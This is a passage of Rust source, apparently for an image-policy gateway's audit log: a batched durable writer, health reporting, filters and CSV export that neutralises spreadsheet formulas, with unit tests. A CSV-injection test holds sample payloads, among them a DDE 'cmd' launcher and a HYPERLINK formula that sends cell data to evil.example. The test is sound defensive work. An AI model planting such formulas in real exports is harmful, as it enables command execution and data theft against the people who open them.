//! The audit record of every decision, at every door: one structured log
//! event on the `imagegate::audit` target, and one row in the store.
//!
//! What a door answers is recorded first: admission reviews, ImageReviews,
//! manifest and tag-list requests wait until their events are committed
//! ([`Auditor::commit`]), so a decision that was answered is a decision in
//! the store, even after a SIGKILL. Commits are grouped: one writer task takes
//! whatever is waiting (up to [`BATCH`] events) and writes it in one
//! transaction. Blob requests and sign-in failures are recorded after the
//! answer ([`Auditor::record`]): a full queue drops them, counts them and
//! says so in the log (at most once a second), and never blocks.
//!
//! When the store cannot take the record (a write error, the database file
//! removed or replaced), [`AuditHealth`] says so: `/readyz` turns 503, the
//! problem is logged at most once a second and counted, and the doors keep
//! deciding unless `--audit-required` is set, in which case they refuse.

use std::sync::atomic::{AtomicBool, AtomicI64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use imagegate_core::Decision;
use tokio::sync::{mpsc, oneshot};

use crate::metrics::Metrics;
use crate::store::{AuditEvent, AuditFilter, Probe, Store, now_ms};

/// Queued entries at most. Entries a door waits for are never dropped (the
/// door waits for room); the others are dropped and counted beyond this.
pub const QUEUE_CAPACITY: usize = 10_000;
/// Events written per transaction at most.
pub const BATCH: usize = 500;
/// How often the writer checks that the store is still the one it opened
/// (and, after a failed write, whether it can be written again).
pub const PROBE_INTERVAL: Duration = Duration::from_secs(1);
/// The message a door refuses with under `--audit-required` when its
/// decision cannot be recorded.
pub const UNAVAILABLE: &str = "audit log unavailable";

/// Who asked, through which door, about what.
#[derive(Clone, Copy, Debug, Default)]
pub struct Context<'a> {
    /// The door.
    pub door: &'static str,
    /// The request's identifier (an AdmissionReview uid).
    pub request: Option<&'a str>,
    /// The Kubernetes namespace.
    pub namespace: Option<&'a str>,
    /// The user or Kubernetes identity.
    pub user: Option<&'a str>,
    /// The organisation whose policy decided (registry door).
    pub org: Option<&'a str>,
    /// The caller's address.
    pub source: Option<&'a str>,
    /// Where in the object the image is (`spec.containers[0]`), or what the
    /// gateway served (`manifest`).
    pub path: Option<&'a str>,
    /// Whether the request will not be persisted (Kubernetes dry-run).
    pub dry_run: bool,
}

/// The decision could not be recorded: the store refused the write, or is
/// no longer the database that was opened.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{UNAVAILABLE}: {0}")]
pub struct Unrecorded(pub String);

/// Whether the store takes the audit record, shared by the writer (which
/// finds out), `/readyz` and the doors (which ask).
#[derive(Debug, Default)]
pub struct AuditHealth {
    /// The last write failed.
    write_failed: AtomicBool,
    /// The database is not the one opened (removed, replaced) or unreadable.
    store_failed: AtomicBool,
    problem: Mutex<String>,
    last_log: AtomicI64,
}

impl AuditHealth {
    /// What is wrong, or `None` when the record is being written.
    pub fn problem(&self) -> Option<String> {
        if !self.write_failed.load(Ordering::Relaxed) && !self.store_failed.load(Ordering::Relaxed)
        {
            return None;
        }
        Some(
            self.problem
                .lock()
                .unwrap_or_else(|p| p.into_inner())
                .clone(),
        )
    }

    /// Whether the record is being written.
    pub fn ok(&self) -> bool {
        !self.write_failed.load(Ordering::Relaxed) && !self.store_failed.load(Ordering::Relaxed)
    }

    fn set(&self, flag: &AtomicBool, failure: Option<&str>, metrics: &Metrics) {
        match failure {
            Some(why) => {
                *self.problem.lock().unwrap_or_else(|p| p.into_inner()) = why.to_owned();
                flag.store(true, Ordering::Relaxed);
                metrics.audit_store_failure();
                let second = now_ms() / 1000;
                if self.last_log.swap(second, Ordering::Relaxed) != second {
                    tracing::error!(
                        target: "imagegate::audit",
                        error = why,
                        "the audit log cannot be written: decisions are not being recorded (/readyz answers 503)"
                    );
                }
            }
            None => {
                if flag.swap(false, Ordering::Relaxed) && self.ok() {
                    metrics.audit_store_recovered();
                    tracing::info!(target: "imagegate::audit", "the audit log is being written again");
                }
            }
        }
    }
}

/// One item on the writer's queue.
enum Entry {
    /// Events, and who waits for their commit.
    Events {
        events: Vec<AuditEvent>,
        done: Option<oneshot::Sender<Result<(), Unrecorded>>>,
    },
    /// Time to check the store (sent every [`PROBE_INTERVAL`]).
    Probe,
    /// Write what is queued and stop.
    Close,
}

/// Records decisions: cheap to clone.
#[derive(Clone)]
pub struct Auditor {
    tx: Option<mpsc::Sender<Entry>>,
    metrics: Option<Arc<Metrics>>,
    health: Arc<AuditHealth>,
    required: bool,
    /// Whether [`Auditor::commit`] waits for the commit (always, but in
    /// the benchmark's baseline).
    durable: bool,
    last_overflow_log: Arc<AtomicI64>,
}

/// The writer behind an [`Auditor`] (a thread of its own, so a commit costs
/// no hop through the runtime's blocking pool); [`AuditWriter::close`]
/// drains it.
pub struct AuditWriter {
    tx: mpsc::Sender<Entry>,
    thread: std::thread::JoinHandle<()>,
    probe: tokio::task::JoinHandle<()>,
}

impl Auditor {
    /// An auditor that only logs (tests, tools without a store).
    pub fn disabled() -> Auditor {
        Auditor {
            tx: None,
            metrics: None,
            health: Arc::new(AuditHealth::default()),
            required: false,
            durable: true,
            last_overflow_log: Arc::new(AtomicI64::new(0)),
        }
    }

    /// An auditor writing to `store` through a queue of `capacity` entries.
    /// Must be called within a tokio runtime.
    pub fn start(
        store: Arc<dyn Store>,
        metrics: Arc<Metrics>,
        capacity: usize,
    ) -> (Auditor, AuditWriter) {
        let (tx, rx) = mpsc::channel(capacity.max(1));
        let health = Arc::new(AuditHealth::default());
        let writer = Writer {
            store,
            metrics: metrics.clone(),
            health: health.clone(),
        };
        let thread = std::thread::Builder::new()
            .name("imagegate-audit".to_owned())
            .spawn(move || writer.run(rx));
        let thread = match thread {
            Ok(t) => t,
            // No thread for the writer: the process cannot run at all.
            Err(e) => panic!("cannot start the audit writer thread: {e}"),
        };
        let probe = {
            let tx = tx.clone();
            tokio::spawn(async move {
                let mut tick = tokio::time::interval(PROBE_INTERVAL);
                tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
                loop {
                    tick.tick().await;
                    // A full queue is a busy writer, which checks as it writes.
                    if let Err(mpsc::error::TrySendError::Closed(_)) = tx.try_send(Entry::Probe) {
                        return;
                    }
                }
            })
        };
        let writer = AuditWriter {
            tx: tx.clone(),
            thread,
            probe,
        };
        (
            Auditor {
                tx: Some(tx),
                metrics: Some(metrics),
                health,
                required: false,
                durable: true,
                last_overflow_log: Arc::new(AtomicI64::new(0)),
            },
            writer,
        )
    }

    /// With `required`, doors refuse what they cannot record
    /// (`--audit-required`).
    pub fn with_required(mut self, required: bool) -> Auditor {
        self.required = required;
        self
    }

    /// Makes [`Auditor::commit`] queue and return at once, as the doors'
    /// audit did before answers waited for their record: only the
    /// benchmark's baseline (bench/doors.rs) uses it.
    #[doc(hidden)]
    pub fn answering_before_commit(mut self) -> Auditor {
        self.durable = false;
        self
    }

    /// Whether doors refuse what they cannot record.
    pub fn required(&self) -> bool {
        self.required
    }

    /// Whether the record is being written, and if not, why.
    pub fn health(&self) -> &AuditHealth {
        &self.health
    }

    /// Logs one decision about `image` (as requested) and adds its event to
    /// `events`, for [`Auditor::commit`].
    pub fn note(&self, events: &mut Vec<AuditEvent>, ctx: &Context<'_>, image: &str, d: &Decision) {
        log(ctx, image, d);
        if self.tx.is_some() {
            events.push(event(ctx, image, d));
        }
    }

    /// Writes `events` and returns once they are committed, in one
    /// transaction with whatever else is waiting. `Err` when they could not
    /// be recorded (the failure is counted and logged by the writer).
    pub async fn commit(&self, events: Vec<AuditEvent>) -> Result<(), Unrecorded> {
        let Some(tx) = &self.tx else {
            return Ok(());
        };
        if events.is_empty() {
            return Ok(());
        }
        if !self.durable {
            for e in events {
                self.enqueue(e);
            }
            return Ok(());
        }
        let n = events.len() as u64;
        let (done, committed) = oneshot::channel();
        let lost = |why: &str| {
            if let Some(m) = &self.metrics {
                m.audit_events("dropped_error", n);
            }
            Err(Unrecorded(why.to_owned()))
        };
        if tx
            .send(Entry::Events {
                events,
                done: Some(done),
            })
            .await
            .is_err()
        {
            return lost("the audit writer has stopped");
        }
        match committed.await {
            Ok(result) => result,
            Err(_) => lost("the audit writer has stopped"),
        }
    }

    /// Records one decision about `image` (as requested) after the answer:
    /// queued, never waited for, dropped and counted when the queue is full.
    pub fn record(&self, ctx: &Context<'_>, image: &str, d: &Decision) {
        log(ctx, image, d);
        if self.tx.is_some() {
            self.enqueue(event(ctx, image, d));
        }
    }

    /// Records an event that is not a decision (a failed sign-in) after the
    /// answer, as [`Auditor::record`] does.
    pub fn record_event(&self, e: AuditEvent) {
        self.enqueue(e);
    }

    fn enqueue(&self, e: AuditEvent) {
        let Some(tx) = &self.tx else {
            return;
        };
        let entry = Entry::Events {
            events: vec![e],
            done: None,
        };
        if tx.try_send(entry).is_err() {
            if let Some(m) = &self.metrics {
                m.audit_events("dropped_overflow", 1);
            }
            let second = now_ms() / 1000;
            if self.last_overflow_log.swap(second, Ordering::Relaxed) != second {
                tracing::warn!(
                    target: "imagegate::audit",
                    capacity = QUEUE_CAPACITY,
                    "audit queue full: events are being dropped (see imagegate_audit_events_total{{result=\"dropped_overflow\"}})"
                );
            }
        }
    }
}

/// The stored event of one decision.
fn event(ctx: &Context<'_>, image: &str, d: &Decision) -> AuditEvent {
    AuditEvent {
        time_ms: now_ms(),
        door: ctx.door.to_owned(),
        org: ctx.org.map(str::to_owned),
        user: ctx.user.map(str::to_owned),
        source: ctx.source.map(str::to_owned),
        image: d
            .reference
            .as_ref()
            .map_or_else(|| image.to_owned(), |r| r.as_str().to_owned()),
        input: image.to_owned(),
        category: d.category.map(|c| c.code().to_owned()),
        decision: d.verdict.as_str().to_owned(),
        reason: d.reason.code().to_owned(),
        mode: d.mode.as_str().to_owned(),
        message: d.message.to_string(),
        namespace: ctx.namespace.map(str::to_owned),
        request: ctx.request.map(str::to_owned),
        path: ctx.path.map(str::to_owned),
    }
}

impl AuditWriter {
    /// Stops taking events and returns once everything queued is written.
    pub async fn close(self) {
        self.probe.abort();
        let _ = self.tx.send(Entry::Close).await;
        drop(self.tx);
        let thread = self.thread;
        match tokio::task::spawn_blocking(move || thread.join()).await {
            Ok(Ok(())) => {}
            _ => tracing::error!("the audit writer failed"),
        }
    }
}

/// What the writer has taken off the queue and not yet written.
#[derive(Default)]
struct Batch {
    events: Vec<AuditEvent>,
    waiting: Vec<oneshot::Sender<Result<(), Unrecorded>>>,
}

impl Batch {
    fn add(
        &mut self,
        events: Vec<AuditEvent>,
        done: Option<oneshot::Sender<Result<(), Unrecorded>>>,
    ) {
        self.events.extend(events);
        self.waiting.extend(done);
    }

    fn full(&self) -> bool {
        self.events.len() >= BATCH
    }
}

struct Writer {
    store: Arc<dyn Store>,
    metrics: Arc<Metrics>,
    health: Arc<AuditHealth>,
}

impl Writer {
    /// The writer thread: takes what is waiting (up to [`BATCH`] events),
    /// writes it in one transaction, tells the waiting doors, and again.
    fn run(self, mut rx: mpsc::Receiver<Entry>) {
        let mut closing = false;
        while !closing {
            let mut batch = Batch::default();
            match rx.blocking_recv() {
                None => break,
                Some(Entry::Close) => closing = true,
                Some(Entry::Probe) => {
                    self.probe();
                    continue;
                }
                Some(Entry::Events { events, done }) => batch.add(events, done),
            }
            // Group: everything already waiting goes into this transaction.
            while !batch.full() {
                match rx.try_recv() {
                    Ok(Entry::Events { events, done }) => batch.add(events, done),
                    // The write below checks the file as well.
                    Ok(Entry::Probe) => {}
                    Ok(Entry::Close) => closing = true,
                    Err(_) => break,
                }
            }
            self.write(batch);
        }
        // Closing: take nothing new; write everything queued.
        rx.close();
        let mut batch = Batch::default();
        while let Some(entry) = rx.blocking_recv() {
            if let Entry::Events { events, done } = entry {
                batch.add(events, done);
                if batch.full() {
                    self.write(std::mem::take(&mut batch));
                }
            }
        }
        self.write(batch);
    }

    /// Writes one batch in one transaction, checks that the store is still
    /// the database opened, and tells everyone waiting how it went.
    fn write(&self, batch: Batch) {
        if batch.events.is_empty() {
            for w in batch.waiting {
                let _ = w.send(Ok(()));
            }
            return;
        }
        let n = batch.events.len() as u64;
        let appended = self.store.append_audit(&batch.events);
        // A write into a database file that was removed or replaced
        // succeeds and is lost: it is not a record.
        let outcome = match (appended, self.store.probe(Probe::File)) {
            (Ok(()), Ok(())) => {
                self.health
                    .set(&self.health.write_failed, None, &self.metrics);
                self.health
                    .set(&self.health.store_failed, None, &self.metrics);
                Ok(())
            }
            (Ok(()), Err(e)) => {
                let why = e.to_string();
                self.health
                    .set(&self.health.store_failed, Some(&why), &self.metrics);
                Err(why)
            }
            (Err(e), _) => {
                let why = e.to_string();
                self.health
                    .set(&self.health.write_failed, Some(&why), &self.metrics);
                Err(why)
            }
        };
        match &outcome {
            Ok(()) => {
                self.metrics.audit_transaction();
                self.metrics.audit_events("written", n);
            }
            Err(_) => self.metrics.audit_events("dropped_error", n),
        }
        let result = outcome.map_err(Unrecorded);
        for w in batch.waiting {
            let _ = w.send(result.clone());
        }
    }

    /// Between writes: is the store still the database opened, and (after
    /// a failed write) can it be written again?
    fn probe(&self) {
        let write = self.health.write_failed.load(Ordering::Relaxed);
        let check = if write { Probe::Write } else { Probe::Read };
        match (self.store.probe(check), write) {
            (Ok(()), true) => {
                self.health
                    .set(&self.health.write_failed, None, &self.metrics);
                self.health
                    .set(&self.health.store_failed, None, &self.metrics);
            }
            (Ok(()), false) => self
                .health
                .set(&self.health.store_failed, None, &self.metrics),
            (Err(e), _) => {
                let why = e.to_string();
                self.health
                    .set(&self.health.store_failed, Some(&why), &self.metrics)
            }
        }
    }
}

/// The log event of one decision.
fn log(ctx: &Context<'_>, image: &str, d: &Decision) {
    tracing::info!(
        target: "imagegate::audit",
        door = ctx.door,
        request = ctx.request,
        org = ctx.org,
        namespace = ctx.namespace,
        user = ctx.user,
        source = ctx.source,
        path = ctx.path,
        dry_run = ctx.dry_run,
        image,
        reference = d.reference.as_ref().map(|r| r.as_str()),
        category = d.category.map(|c| c.code()),
        decision = d.verdict.as_str(),
        reason = d.reason.code(),
        mode = d.mode.as_str(),
        message = %d.message,
        "decision"
    );
    if d.reason == imagegate_core::Reason::BreakGlass {
        tracing::warn!(
            target: "imagegate::audit",
            door = ctx.door,
            namespace = ctx.namespace,
            image,
            message = %d.message,
            "BREAK-GLASS: a refused image was allowed"
        );
    }
}

// Reading the log.

/// The fields of a [`Record`], in order, for a CSV header with no rows.
pub const FIELDS: [&str; 15] = [
    "time",
    "door",
    "org",
    "user",
    "source",
    "image",
    "input",
    "category",
    "decision",
    "reason",
    "mode",
    "message",
    "namespace",
    "request",
    "path",
];

/// One event as `imagegate audit` and the API show it: these field names
/// are the JSON and CSV contract.
#[derive(serde::Serialize, utoipa::ToSchema)]
pub struct Record<'a> {
    /// `time`.
    pub time: String,
    /// `door`.
    pub door: &'a str,
    /// `org`.
    pub org: Option<&'a str>,
    /// `user`.
    pub user: Option<&'a str>,
    /// `source`.
    pub source: Option<&'a str>,
    /// `image`.
    pub image: &'a str,
    /// `input`.
    pub input: &'a str,
    /// `category`.
    pub category: Option<&'a str>,
    /// `decision`.
    pub decision: &'a str,
    /// `reason`.
    pub reason: &'a str,
    /// `mode`.
    pub mode: &'a str,
    /// `message`.
    pub message: &'a str,
    /// `namespace`.
    pub namespace: Option<&'a str>,
    /// `request`.
    pub request: Option<&'a str>,
    /// `path`.
    pub path: Option<&'a str>,
}

impl<'a> Record<'a> {
    /// The record of a stored event.
    pub fn of(e: &'a AuditEvent) -> Record<'a> {
        Record {
            time: rfc3339(e.time_ms),
            door: &e.door,
            org: e.org.as_deref(),
            user: e.user.as_deref(),
            source: e.source.as_deref(),
            image: &e.image,
            input: &e.input,
            category: e.category.as_deref(),
            decision: &e.decision,
            reason: &e.reason,
            mode: &e.mode,
            message: &e.message,
            namespace: e.namespace.as_deref(),
            request: e.request.as_deref(),
            path: e.path.as_deref(),
        }
    }
}

/// Unix milliseconds as RFC 3339 UTC with milliseconds.
pub fn rfc3339(ms: i64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(ms) * 1_000_000)
        .unwrap_or(time::OffsetDateTime::UNIX_EPOCH);
    let f = time::macros::format_description!(
        "[year]-[month]-[day]T[hour]:[minute]:[second].[subsecond digits:3]Z"
    );
    t.format(&f).unwrap_or_default()
}

/// Parses a time filter: RFC 3339, or `<N>s|m|h|d` ago. The error names
/// the text and the accepted forms.
pub fn parse_time(text: &str, now_ms: i64) -> Result<i64, String> {
    if let Some(unit) = text.chars().last().filter(|c| "smhd".contains(*c))
        && let Some(n) = text
            .get(..text.len() - 1)
            .and_then(|n| n.parse::<i64>().ok())
    {
        let seconds = match unit {
            's' => 1,
            'm' => 60,
            'h' => 3600,
            _ => 86_400,
        };
        return Ok(now_ms.saturating_sub(n.saturating_mul(seconds).saturating_mul(1000)));
    }
    let t = time::OffsetDateTime::parse(text, &time::format_description::well_known::Rfc3339)
        .map_err(|_| {
            format!(
                "{text:?}: expected RFC 3339 (2026-11-23T10:00:00Z) or a duration ago (15m, 2h, 7d)"
            )
        })?;
    Ok(i64::try_from(t.unix_timestamp_nanos() / 1_000_000).unwrap_or(i64::MAX))
}

/// The filters a person gives the audit log (API query, console form), as
/// text: empty means none.
#[derive(Clone, Debug, Default)]
pub struct Filters<'a> {
    /// At or after: RFC 3339, or a duration ago (15m, 2h, 7d).
    pub since: Option<&'a str>,
    /// Before (same forms).
    pub until: Option<&'a str>,
    /// This user only.
    pub user: Option<&'a str>,
    /// This door only.
    pub door: Option<&'a str>,
    /// `allow` or `deny`.
    pub decision: Option<&'a str>,
    /// An image rule pattern (`docker.io/someuser/*`).
    pub image: Option<&'a str>,
}

impl Filters<'_> {
    /// The store filter for organisation `org` (with no limit) and the image
    /// pattern, or what is wrong with a filter, naming it.
    pub fn compile(
        &self,
        org: &str,
        now_ms: i64,
    ) -> Result<(AuditFilter, Option<imagegate_core::pattern::ImagePattern>), String> {
        let time = |name: &str, t: Option<&str>| {
            given(t)
                .map(|t| parse_time(t, now_ms).map_err(|e| format!("{name} {e}")))
                .transpose()
        };
        let decision = match given(self.decision) {
            None => None,
            Some(d @ ("allow" | "deny")) => Some(d.to_owned()),
            Some(other) => return Err(format!("decision {other:?} is not allow or deny")),
        };
        let door = match given(self.door) {
            None => None,
            Some(d) if DOORS.contains(&d) => Some(d.to_owned()),
            Some(other) => {
                return Err(format!(
                    "door {other:?} is not {}, {}, {} or {}",
                    DOORS[0], DOORS[1], DOORS[2], DOORS[3]
                ));
            }
        };
        let glob = given(self.image)
            .map(|g| {
                imagegate_core::pattern::ImagePattern::parse(g).map_err(|e| format!("image {e}"))
            })
            .transpose()?;
        Ok((
            AuditFilter {
                since_ms: time("since", self.since)?,
                until_ms: time("until", self.until)?,
                user: given(self.user).map(str::to_owned),
                org: Some(org.to_owned()),
                door,
                decision,
                limit: None,
                offset: None,
            },
            glob,
        ))
    }
}

/// Every door that records events.
pub const DOORS: [&str; 4] = [
    crate::gateway::DOOR,
    crate::admission::DOOR,
    crate::imagepolicy::DOOR,
    crate::token::DOOR,
];

/// A filter's text, trimmed; empty is none.
fn given(v: Option<&str>) -> Option<&str> {
    v.map(str::trim).filter(|v| !v.is_empty())
}

/// Writes `events` as CSV with the [`FIELDS`] header (the header alone when
/// there are none, so an empty export is still a table). A cell that a
/// spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a
/// tab or a carriage return) is written with a leading `'`, so it opens as
/// text.
pub fn write_csv<W: std::io::Write>(events: &[AuditEvent], out: W) -> Result<(), csv::Error> {
    let mut w = csv::Writer::from_writer(out);
    w.write_record(FIELDS)?;
    for e in events {
        w.write_record(csv_row(&Record::of(e)).iter().map(|c| c.as_bytes()))?;
    }
    w.flush()?;
    Ok(())
}

/// A record's cells in [`FIELDS`] order (absent values empty), each through
/// [`csv_cell`]. The destructuring names every field, so a new one cannot be
/// left out of the CSV unnoticed.
fn csv_row<'r>(r: &'r Record<'_>) -> [std::borrow::Cow<'r, str>; 15] {
    let Record {
        time,
        door,
        org,
        user,
        source,
        image,
        input,
        category,
        decision,
        reason,
        mode,
        message,
        namespace,
        request,
        path,
    } = r;
    let or_empty = |v: &Option<&'r str>| v.unwrap_or_default();
    [
        time.as_str(),
        door,
        or_empty(org),
        or_empty(user),
        or_empty(source),
        image,
        input,
        or_empty(category),
        decision,
        reason,
        mode,
        message,
        or_empty(namespace),
        or_empty(request),
        or_empty(path),
    ]
    .map(csv_cell)
}

/// A cell as a spreadsheet will show it rather than run it: text starting
/// with `=`, `+`, `-`, `@`, a tab or a carriage return (a formula, or DDE, to
/// Excel, LibreOffice and Google Sheets) gets a leading `'`, as OWASP's CSV
/// Injection page recommends. Images, users, inputs and messages can come
/// from whoever sends a request, so every cell goes through here.
fn csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Events matching `filter` and, when given, whose image matches `glob`
/// (on the parsed reference), oldest first. With a glob, the filter's
/// offset and limit apply after matching.
pub fn read(
    store: &dyn Store,
    filter: &AuditFilter,
    glob: Option<&imagegate_core::pattern::ImagePattern>,
) -> Result<Vec<AuditEvent>, crate::store::StoreError> {
    let Some(glob) = glob else {
        return store.audit_events(filter);
    };
    // Newest first, a chunk at a time, until enough match: a page of a
    // busy log stops early, and memory holds one chunk beside the matches.
    const CHUNK: usize = 5000;
    let skip = filter.offset.unwrap_or(0);
    let enough = filter.limit.map(|n| n.saturating_add(skip));
    let mut matched = Vec::new();
    // Where the next chunk starts: before `until` (exclusive), skipping the
    // `seen` events at its last millisecond that were already read. An
    // offset from the newest would re-read everything before it each time.
    let mut until = filter.until_ms;
    let mut seen = 0;
    loop {
        let mut chunk = store.audit_events(&AuditFilter {
            limit: Some(CHUNK),
            until_ms: until,
            offset: Some(seen),
            ..filter.clone()
        })?;
        let read = chunk.len();
        if let Some(oldest) = chunk.first().map(|e| e.time_ms) {
            let at_oldest = chunk.iter().take_while(|e| e.time_ms == oldest).count();
            seen = if until == Some(oldest + 1) {
                seen + at_oldest
            } else {
                at_oldest
            };
            until = Some(oldest + 1);
        }
        chunk.reverse();
        matched.extend(chunk.into_iter().filter(|e| {
            imagegate_core::Reference::parse(&e.image).is_ok_and(|r| glob.matches(&r))
        }));
        if read < CHUNK || enough.is_some_and(|n| matched.len() >= n) {
            break;
        }
    }
    let mut page: Vec<AuditEvent> = matched
        .into_iter()
        .skip(skip)
        .take(filter.limit.unwrap_or(usize::MAX))
        .collect();
    page.reverse();
    Ok(page)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_name_a_records_fields_in_their_order() {
        // The CSV header printed when there are no rows must be the one a row
        // would print: the same names in the same order.
        let e = AuditEvent::default();
        let line = serde_json::to_string(&Record::of(&e)).unwrap();
        let at: Vec<usize> = FIELDS
            .iter()
            .map(|f| {
                line.find(&format!("\"{f}\":"))
                    .unwrap_or_else(|| panic!("{f} in {line}"))
            })
            .collect();
        assert!(at.windows(2).all(|w| w[0] < w[1]), "{line}");
        let value: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(value.as_object().unwrap().len(), FIELDS.len());
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
        // OWASP's CSV Injection triggers, from whoever sent the request:
        // an image, a user, a source, a message, a namespace, a request id.
        let e = AuditEvent {
            door: "admission".into(),
            user: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
            source: Some("\t=1+1".into()),
            image: "=HYPERLINK(\"http://evil.example/?\"&A1)".into(),
            input: "-2+3".into(),
            decision: "deny".into(),
            reason: "invalid_reference".into(),
            mode: "enforce".into(),
            message: "+cmd".into(),
            namespace: Some("\r=1".into()),
            request: Some("a=b".into()),
            ..AuditEvent::default()
        };
        let mut out = Vec::new();
        write_csv(std::slice::from_ref(&e), &mut out).unwrap();
        let mut rows = csv::Reader::from_reader(out.as_slice());
        assert_eq!(rows.headers().unwrap(), FIELDS.as_slice());
        let row = rows.records().next().unwrap().unwrap();
        let cell = |name: &str| &row[FIELDS.iter().position(|f| *f == name).unwrap()];
        assert_eq!(cell("user"), "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert_eq!(cell("source"), "'\t=1+1");
        assert_eq!(cell("image"), "'=HYPERLINK(\"http://evil.example/?\"&A1)");
        assert_eq!(cell("input"), "'-2+3");
        assert_eq!(cell("message"), "'+cmd");
        assert_eq!(cell("namespace"), "'\r=1");
        // Text that starts harmlessly is written as it is, and so is an
        // absent value.
        assert_eq!(cell("request"), "a=b");
        assert_eq!(cell("door"), "admission");
        assert_eq!(cell("time"), "1970-01-01T00:00:00.000Z");
        assert_eq!(cell("org"), "");
        assert_eq!(cell("path"), "");
    }

    #[test]
    fn csv_rows_hold_a_records_values_in_the_headers_order() {
        // Every field a distinct value: the CSV row must be the JSON record's
        // values, taken in FIELDS order.
        let e = AuditEvent {
            time_ms: 1_795_428_000_000,
            door: "gateway".into(),
            org: Some("acme".into()),
            user: Some("alice".into()),
            source: Some("10.0.0.1".into()),
            image: "docker.io/library/nginx:1.25".into(),
            input: "nginx:1.25".into(),
            category: Some("official".into()),
            decision: "allow".into(),
            reason: "allowed".into(),
            mode: "enforce".into(),
            message: "image allowed".into(),
            namespace: Some("default".into()),
            request: Some("uid-1".into()),
            path: Some("manifest".into()),
        };
        let record = serde_json::to_value(Record::of(&e)).unwrap();
        let expected: Vec<&str> = FIELDS.iter().map(|f| record[f].as_str().unwrap()).collect();
        let mut out = Vec::new();
        write_csv(&[e.clone(), e], &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let mut lines = text.lines();
        assert_eq!(lines.next(), Some(FIELDS.join(",").as_str()));
        assert_eq!(lines.next(), Some(expected.join(",").as_str()));
        assert_eq!(lines.next(), Some(expected.join(",").as_str()));
        assert_eq!(lines.next(), None);
    }

    #[test]
    fn times_are_rfc3339_or_durations_ago() {
        let now = 1_800_000_000_000;
        assert_eq!(parse_time("15m", now).unwrap(), now - 900_000);
        assert_eq!(parse_time("7d", now).unwrap(), now - 604_800_000);
        assert_eq!(
            parse_time("2026-11-23T10:00:00Z", now).unwrap(),
            1_795_428_000_000
        );
        let e = parse_time("yesterday", now).unwrap_err();
        assert!(e.starts_with("\"yesterday\": expected RFC 3339"), "{e}");
        assert!(parse_time("5ü", now).is_err());
        assert_eq!(rfc3339(1_795_428_000_123), "2026-11-23T10:00:00.123Z");
    }
    use crate::store::{AuditFilter, SqliteStore};
    use imagegate_core::{Input, Policy, decide};

    fn store() -> Arc<dyn Store> {
        let mut b = [0u8; 8];
        getrandom::fill(&mut b).unwrap();
        let dir = std::env::temp_dir().join(format!("imagegate-audit-{}", u64::from_le_bytes(b)));
        Arc::new(SqliteStore::open(&dir).unwrap())
    }

    fn denial() -> Decision {
        let p = Policy::load("apiVersion: imagegate.dev/v1\nkind: ImagePolicy\nmetadata: {name: corp}\nspec:\n  imageAccess: {enabled: true}\n").unwrap();
        decide(&p, &Input::image("someuser/custom-image"))
    }

    #[tokio::test]
    async fn every_queued_event_is_written_by_close_with_its_fields() {
        let store = store();
        let metrics = Arc::new(Metrics::new());
        let (auditor, writer) = Auditor::start(store.clone(), metrics.clone(), 10_000);
        let d = denial();
        for i in 0..1234 {
            let user = format!("u{}", i % 3);
            auditor.record(
                &Context {
                    door: "gateway",
                    user: Some(&user),
                    org: Some("corp"),
                    source: Some("10.0.0.1"),
                    path: Some("manifest"),
                    ..Context::default()
                },
                "someuser/custom-image",
                &d,
            );
        }
        writer.close().await;
        let all = store.audit_events(&AuditFilter::default()).unwrap();
        assert_eq!(all.len(), 1234);
        let e = &all[0];
        assert_eq!(e.image, "docker.io/someuser/custom-image:latest");
        assert_eq!(e.input, "someuser/custom-image");
        assert_eq!(
            (
                e.door.as_str(),
                e.decision.as_str(),
                e.reason.as_str(),
                e.mode.as_str()
            ),
            ("gateway", "deny", "category_not_allowed", "enforce")
        );
        assert_eq!(e.category.as_deref(), Some("community"));
        assert_eq!(e.org.as_deref(), Some("corp"));
        assert_eq!(
            e.message,
            "image access denied: community images not allowed"
        );
        let u1 = store
            .audit_events(&AuditFilter {
                user: Some("u1".into()),
                ..AuditFilter::default()
            })
            .unwrap();
        assert_eq!(u1.len(), 411);
        assert!(
            metrics
                .encode()
                .contains("imagegate_audit_events_total{result=\"written\"} 1234")
        );
    }

    fn context(request: &str) -> Context<'_> {
        Context {
            door: "admission",
            request: Some(request),
            ..Context::default()
        }
    }

    #[tokio::test]
    async fn a_committed_decision_is_in_the_store_when_commit_returns() {
        let store = store();
        let metrics = Arc::new(Metrics::new());
        let (auditor, _writer) = Auditor::start(store.clone(), metrics, 100);
        let d = denial();
        for i in 0..20 {
            let uid = format!("uid-{i}");
            let mut events = Vec::new();
            auditor.note(&mut events, &context(&uid), "someuser/custom-image", &d);
            auditor.commit(events).await.unwrap();
            // Not closed, not flushed: committed is enough.
            let stored = store.audit_events(&AuditFilter::default()).unwrap();
            assert_eq!(stored.len(), i + 1);
            assert_eq!(stored[i].request.as_deref(), Some(uid.as_str()));
        }
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    // Holding the store's write lock across awaits is how the writer is stalled.
    #[allow(clippy::await_holding_lock)]
    async fn decisions_waiting_together_are_committed_in_one_transaction() {
        let mut b = [0u8; 8];
        getrandom::fill(&mut b).unwrap();
        let dir = std::env::temp_dir().join(format!("imagegate-audit-{}", u64::from_le_bytes(b)));
        let sqlite = Arc::new(SqliteStore::open(&dir).unwrap());
        let store: Arc<dyn Store> = sqlite.clone();
        let metrics = Arc::new(Metrics::new());
        let (auditor, writer) = Auditor::start(store.clone(), metrics.clone(), 1000);
        let d = denial();
        // 400 reviews come in while the writer is busy with a first one.
        let busy = sqlite.hold_writes();
        let tasks: Vec<_> = (0..400)
            .map(|i| {
